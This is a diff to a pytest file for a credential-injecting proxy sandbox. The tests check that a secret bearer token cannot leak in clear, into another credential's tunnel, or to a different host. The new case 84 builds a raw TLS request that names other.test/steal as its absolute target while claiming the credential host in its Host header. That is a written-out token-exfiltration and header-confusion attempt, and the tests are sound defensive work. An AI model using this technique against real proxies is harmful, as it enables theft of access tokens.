@@ -525,11 +525,12 @@ def test_stockades_own_output_never_holds_the_value(world: SimpleNamespace) -> N
 RAW_IN_TUNNEL = r"""
 import os, socket, ssl, sys
 host, port, target = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+named = sys.argv[4] if len(sys.argv) > 4 else target.split('/')[2]  # the Host header: the target's own, or another
 raw = socket.create_connection(("127.0.0.1", 3128))
 raw.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
 assert raw.recv(4096).startswith(b"HTTP/1.1 200")
 tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(raw, server_hostname=host)
-tls.sendall(f"GET {target} HTTP/1.1\r\nHost: {target.split('/')[2]}\r\nAuthorization: Bearer {os.environ['GH_TOKEN']}\r\nConnection: close\r\n\r\n".encode())
+tls.sendall(f"GET {target} HTTP/1.1\r\nHost: {named}\r\nAuthorization: Bearer {os.environ['GH_TOKEN']}\r\nConnection: close\r\n\r\n".encode())
 got = b""
 while chunk := tls.recv(65536):
     got += chunk
@@ -544,8 +545,8 @@ def test_a_request_inside_the_tls_tunnel_cannot_send_the_value_in_clear(world: S
     run = f"/usr/bin/python3 -I {world.root / 'raw.py'} {API} {world.port}"
     result = world.box.run(f"{run} http://{API}:{world.clear_port}/clear; {run} https://{API}:{world.port}/fine", policy=policy())
     assert all(SECRET not in json.dumps(entry, default=str) for entry in world.clear.seen[before:]), world.clear.seen[before:]
-    # control: it went on inside the tunnel, over TLS to the tunnel's own origin, with the value
-    assert "ok GET https://api.test" in result.stdout, result
+    # control: it went on inside the tunnel, over TLS to the tunnel's own origin, with the value, in origin form
+    assert "ok GET /fine" in result.stdout, result
     assert world.origin.seen[-1]["headers"]["Authorization"] == f"Bearer {SECRET}"  # type: ignore[index]
 
 
@@ -559,5 +560,22 @@ def test_a_request_inside_another_credentials_tunnel_gets_no_swap(world: SimpleN
     result = world.box.run(f"{run} {OTHER} {world.port} https://{API}:{world.port}/cross; {run} {API} {world.port} https://{API}:{world.port}/fine", policy=rules)
     seen = world.origin.seen[before:]
     assert all(SECRET not in json.dumps(entry, default=str) for entry in seen if entry["sni"] != API), seen
-    assert "ok GET https://api.test" in result.stdout and seen[-1]["sni"] == API, result  # control
+    assert "ok GET /fine" in result.stdout and seen[-1]["sni"] == API, result  # control
     assert seen[-1]["headers"]["Authorization"] == f"Bearer {SECRET}"  # type: ignore[index]
+
+
+def test_case_84_an_absolute_target_naming_another_host_gets_no_swap_and_goes_nowhere(world: SimpleNamespace) -> None:
+    """ESCAPES 84: inside the tunnel to the credential's host, `GET https://other.test/steal` with
+    `Host: api.test`: a front that routes on the absolute-form authority would hand the real token to
+    other.test's backend. Every spelling of the target must agree; what goes on is origin form."""
+    (world.root / "raw.py").write_text(RAW_IN_TUNNEL)
+    run = f"/usr/bin/python3 -I {world.root / 'raw.py'} {API} {world.port}"
+    before = len(world.origin.seen)
+    result = world.box.run(
+        f"{run} https://{OTHER}:{world.port}/steal {API}:{world.port}; {run} https://{API}:{world.port}/fine {API}:{world.port}", policy=policy()
+    )
+    seen = world.origin.seen[before:]
+    assert not any("steal" in str(entry["path"]) for entry in seen), seen  # refused before it left
+    assert "403" in result.stdout.split("ok GET")[0] and "does not match" in result.stdout, result
+    # control: the target spelled absolute and agreeing goes on, in origin form, with the value
+    assert [entry["path"] for entry in seen] == ["/fine"] and seen[0]["headers"]["Authorization"] == f"Bearer {SECRET}", seen  # type: ignore[index]
